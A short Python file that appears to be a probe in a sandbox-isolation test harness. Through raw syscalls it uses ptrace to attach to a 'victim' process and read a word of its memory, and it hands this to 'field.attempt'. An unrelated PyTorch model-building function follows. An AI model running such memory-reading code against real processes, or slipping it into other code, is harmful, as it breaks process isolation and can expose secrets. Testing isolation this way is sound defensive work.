"""Attaches to the victim with ptrace and reads its memory."""

import ctypes
import os

import field
import torch

PEEK, ATTACH, DETACH = 2, 16, 17


def trace():
    field.syscall(101, ATTACH, field.VICTIM, None, None)
    os.waitpid(field.VICTIM, 0x40000000)
    word = ctypes.c_long()
    field.syscall(101, PEEK, field.VICTIM, ctypes.c_void_p(field.ADDRESS), ctypes.byref(word))
    field.syscall(101, DETACH, field.VICTIM, None, None)
    return word.value.to_bytes(8, "little")


field.attempt("a word of the victim's memory", trace)


def build_model():
    return torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(784, 10))
